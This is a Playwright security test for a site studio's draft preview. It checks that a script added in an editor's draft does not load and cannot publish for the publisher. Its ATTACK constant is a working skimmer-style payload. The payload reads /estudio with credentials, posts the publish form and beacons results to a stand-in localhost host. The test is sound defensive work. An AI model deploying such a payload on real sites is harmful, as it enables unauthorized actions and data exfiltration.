import { spawn, spawnSync, type ChildProcess } from "node:child_process";
import { mkdtempSync, readFileSync, rmSync } from "node:fs";
import { createServer, type Server } from "node:https";
import { tmpdir } from "node:os";
import path from "node:path";
import { expect, test } from "@playwright/test";
import { SESSION_SECRET, ownPort } from "../support/env";
import { SLOW_STEP_TIMEOUT, expectPortsFree, makeStudioAccounts, serving } from "../support/studio";
import { waitForHydration } from "../support/hydration";

/**
 * A preview cannot act for whoever opens it (docs/security.md). An editor's draft of site.json
 * names a chat script on a host whose content they control (an allowed origin, so the schemas
 * accept it: written straight into the draft store). The script tries what a skimmer would: read /estudio and post the publish form. The
 * publisher opens "Ver el sitio con los borradores": the script must not load (a preview loads
 * the live config's scripts only, and says in words what the draft would add), nothing is
 * published, and even a script run on the preview's page (its own origin, PREVIEW_ORIGIN) can
 * neither read the studio nor post to it.
 */

// ownPort 75–78 (docs/testing.md "Ports").
const REDIS_PORT = ownPort(75);
const SITE = `http://localhost:${ownPort(76)}`;
const PREVIEW = `http://localhost:${ownPort(77)}`;
const SCRIPT_PORT = ownPort(78);
const SCRIPT_URL = `https://localhost:${SCRIPT_PORT}/chat.js`;
const STUDIO_SECRET = "e2e-only-studio-secret-fedcba9876543210fedc";
const PASSWORD = "Estudio-de-prueba-2026";
const EDITOR = "edita@bait.mx";
const PUBLISHER = "publica@bait.mx";

/** What a skimmer's script does on a page of the site: read the studio, post its publish form, say how it went. */
const ATTACK = `(async () => {
  const report = (what) => { new Image().src = "https://localhost:${SCRIPT_PORT}/informe?" + encodeURIComponent(what); };
  report("cargado");
  try {
    const page = await fetch("/estudio", { credentials: "include" }).then((answer) => answer.text());
    const base = /name="base" value="(\\d+)"/.exec(page)?.[1] ?? "0";
    const body = new FormData();
    body.set("nota", "Publicado por la vista previa");
    body.set("base", base);
    const answer = await fetch("/estudio?index", { method: "POST", body, credentials: "include" });
    report("publicar " + answer.status);
  } catch (error) {
    report("error " + error);
  }
})();`;

const processes: ChildProcess[] = [];
let scriptServer: Server | undefined;
const scriptRequests: string[] = [];
let dir = "";

test.describe.configure({ mode: "serial", timeout: 180_000 });
test.skip(() => test.info().project.name !== "studio-js", "runs once, in the studio-js project: a studio instance of its own");

/** The version the site serves now (0: nothing published from the studio). */
const publishedVersion = () => fetch(`${SITE}/readyz`).then((answer) => answer.json() as Promise<{ publishedVersion?: number }>).then((ready) => ready.publishedVersion ?? 0);

test.beforeAll(async () => {
  if (test.info().project.name !== "studio-js") return;
  await expectPortsFree(REDIS_PORT, Number(new URL(SITE).port), Number(new URL(PREVIEW).port), SCRIPT_PORT);
  dir = mkdtempSync(path.join(tmpdir(), "bait-vista-origen-"));
  const usersFile = path.join(dir, "studio-users");
  await makeStudioAccounts(usersFile, PASSWORD, [
    [EDITOR, "editor"],
    [PUBLISHER, "publisher"],
  ]);

  // The attacker's host: https (the schema takes nothing else), a certificate of its own.
  const made = spawnSync("openssl", ["req", "-x509", "-newkey", "rsa:2048", "-nodes", "-days", "1", "-subj", "/CN=localhost", "-keyout", path.join(dir, "key.pem"), "-out", path.join(dir, "cert.pem")], { encoding: "utf8" });
  expect(made.status, made.stderr).toBe(0);
  scriptServer = createServer({ key: readFileSync(path.join(dir, "key.pem")), cert: readFileSync(path.join(dir, "cert.pem")) }, (request, response) => {
    scriptRequests.push(decodeURIComponent(request.url ?? ""));
    response.writeHead(200, { "Content-Type": "text/javascript", "Access-Control-Allow-Origin": "*" });
    response.end(request.url?.startsWith("/chat.js") ? ATTACK : "");
  });
  await new Promise<void>((resolve) => scriptServer!.listen(SCRIPT_PORT, "127.0.0.1", resolve));

  const redis = spawn("redis-server", ["--port", String(REDIS_PORT), "--bind", "127.0.0.1", "--save", "", "--appendonly", "no"], { stdio: "ignore" });
  processes.push(redis);
  await new Promise((resolve, reject) => {
    redis.once("spawn", resolve);
    redis.once("error", (error) => reject(new Error(`redis-server could not start: ${error.message}`)));
  });
  const environment: NodeJS.ProcessEnv = {
    ...process.env,
    NODE_ENV: "production",
    MOCKS: "true",
    PORT: new URL(SITE).port,
    PREVIEW_ORIGIN: PREVIEW,
    // The script's origin is one developers allowed (docs/security.md): the worst case, an allowed
    // provider's host serving what the editor wrote. Without it the schemas refuse the draft whole
    // and the preview shows the live site; with it, only the preview's own boundary stands.
    SCRIPT_ORIGINS: `https://localhost:${SCRIPT_PORT}`,
    SESSION_SECRET,
    HSTS: "false",
    REDIS_URL: `redis://127.0.0.1:${REDIS_PORT}`,
    DATA_DIR: path.join(dir, "datos"),
    STUDIO_SECRET,
    STUDIO_USERS_FILE: usersFile,
  };
  const server = spawn("node", ["build/server.js"], { env: environment, stdio: "ignore" });
  processes.push(server);
  await serving(server, `${SITE}/healthz`);

  // The editor's draft, straight into the studio's draft store.
  const site = JSON.parse(readFileSync("pages-config/site.json", "utf8")) as { chat?: { scriptUrl?: string } };
  site.chat = { scriptUrl: SCRIPT_URL };
  const save = `const { versions } = await import("./app/lib/config/studio-versions.server.ts");
const saved = await versions.saveDraft({ file: "site.json", value: JSON.parse(process.env.DRAFT), author: ${JSON.stringify(EDITOR)}, revision: 0, base: 0 });
if (!saved.ok) throw new Error("draft not saved: " + JSON.stringify(saved));
process.exit(0);`;
  const saved = spawnSync("node", ["--import", "tsx", "--input-type=module", "-e", save], { env: { ...environment, DRAFT: JSON.stringify(site) }, encoding: "utf8" });
  expect(saved.status, saved.stderr).toBe(0);
});

test.afterAll(() => {
  for (const child of processes.reverse()) child.kill("SIGTERM");
  scriptServer?.close();
  if (dir) rmSync(dir, { recursive: true, force: true });
});

test("a publisher opening the preview of a draft that adds a script: the script does not load, nothing is published", async ({ browser }) => {
  const context = await browser.newContext({ baseURL: SITE, ignoreHTTPSErrors: true });
  const page = await context.newPage();
  await page.goto("/estudio");
  await page.getByLabel("Correo", { exact: true }).fill(PUBLISHER);
  await page.getByLabel("Contraseña", { exact: true }).fill(PASSWORD);
  await page.getByRole("button", { name: "Entrar", exact: true }).click();
  await expect(page.getByRole("heading", { name: "1 borrador por publicar" })).toBeVisible({ timeout: SLOW_STEP_TIMEOUT });
  expect(await publishedVersion()).toBe(0);

  const [preview] = await Promise.all([context.waitForEvent("page"), page.getByRole("link", { name: "Ver el sitio con los borradores" }).click()]);
  await waitForHydration(preview);
  // The chat is loaded once the page is idle (app/render/chrome/chat-widget.tsx): an idle
  // callback asked for now runs after its.
  await preview.evaluate(() => new Promise((resolve) => requestIdleCallback(() => requestIdleCallback(resolve))));
  const inserted = await preview.locator(`script[src="${SCRIPT_URL}"]`).count();
  // Had it loaded, what it did is on record before the verdict.
  if (inserted > 0) await expect.poll(() => scriptRequests.find((entry) => entry.startsWith("/informe?publicar") || entry.startsWith("/informe?error")) ?? "", { timeout: 30_000 }).not.toBe("");
  expect(await publishedVersion(), `the draft's script published: ${scriptRequests.join(", ")}`).toBe(0);
  expect(inserted).toBe(0);
  expect(scriptRequests).toEqual([]);
  // What the draft would load is said in words.
  await expect(preview.getByRole("complementary", { name: "Vista previa" })).toContainText(SCRIPT_URL);

  // The boundary beneath: a script run on the preview's page (what a draft's script would be)
  // reaches neither the studio's pages nor its actions, on the preview's origin or the site's.
  expect(new URL(preview.url()).origin).toBe(PREVIEW);
  const tries = await preview.evaluate(async (site) => {
    const status = (request: Promise<Response>) => request.then((answer) => (answer.type === "opaque" ? "opaca" : String(answer.status)), () => "rechazada");
    const form = () => {
      const body = new FormData();
      body.set("nota", "Publicado por la vista previa");
      body.set("base", "0");
      return body;
    };
    return {
      readHere: await status(fetch("/estudio", { credentials: "include" })),
      postHere: await status(fetch("/estudio?index", { method: "POST", body: form(), credentials: "include" })),
      readSite: await status(fetch(`${site}/estudio`, { credentials: "include" })),
      postSite: await status(fetch(`${site}/estudio?index`, { method: "POST", body: form(), credentials: "include", mode: "no-cors" })),
    };
  }, SITE);
  expect(tries.readHere).toBe("404");
  expect(tries.postHere).not.toMatch(/^(2|3)\d\d$/);
  // Another origin: the browser hands the page nothing it could read.
  expect(["rechazada", "opaca"]).toContain(tries.readSite);
  expect(["rechazada", "opaca"]).toContain(tries.postSite);
  expect(await publishedVersion()).toBe(0);
  await context.close();
});
